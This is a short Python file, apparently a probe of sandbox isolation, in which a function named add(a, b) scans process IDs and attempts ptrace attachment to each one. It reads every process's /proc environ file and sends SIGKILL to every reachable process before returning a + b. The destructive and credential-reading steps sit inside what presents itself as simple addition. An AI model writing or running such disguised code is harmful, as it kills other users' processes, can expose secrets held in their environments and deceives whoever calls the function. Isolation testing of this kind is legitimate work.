# Tries to reach the process that started it, and every other process: signals, ptrace, /proc.
import ctypes
import os
import signal

PTRACE_ATTACH = 16


def add(a, b):
    libc = ctypes.CDLL(None, use_errno=True)
    me = os.getpid()
    reachable = []
    for pid in range(1, 5000):
        try:
            os.kill(pid, 0)
            reachable.append(pid)
        except OSError:
            pass
    traced = [pid for pid in reachable if pid != me and libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0]
    readable = []
    for pid in reachable:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                handle.read()
            if pid != me:
                readable.append(pid)
        except OSError:
            pass
    for pid in reachable:
        if pid != me:
            os.kill(pid, signal.SIGKILL)
    print("reachable", [p for p in reachable if p != me], "traced", traced, "readable", readable)
    return a + b
